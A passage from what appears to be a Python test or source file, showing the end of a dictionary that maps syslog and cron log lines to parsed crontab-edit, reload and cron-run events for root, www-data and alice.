    ("/var/log/syslog", 3): ("crontab_edit_end", "/var/spool/cron/crontabs/root"),
    ("/var/log/syslog", 4): ("crontab_reload", "/var/spool/cron/crontabs/root"),
    ("/var/log/syslog", 5): ("crontab_replace", "/var/spool/cron/crontabs/www-data"),
    ("/var/log/syslog", 6): ("crontab_reload", "/var/spool/cron/crontabs/www-data"),
    ("/var/log/cron", 1): ("crontab_replace", "/var/spool/cron/alice"),
    ("/var/log/cron", 2): ("crontab_reload", "/var/spool/cron/alice"),
    ("/var/log/cron", 3): ("cron_run", "/etc/cron.d/0hourly:5"),
    ("/var/log/cron", 4): ("cron_script_run", "/etc/cron.hourly/0anacron"),
    ("/var/log/cron", 5): ("cron_script_finished", "/etc/cron.hourly/0anacron"),
    ("/var/log/cron", 6): ("cron_script_run", "/etc/cron.hourly/sys-health"),
    ("/var/log/cron", 7): ("cron_run", "/var/spool/cron/alice:1"),
}
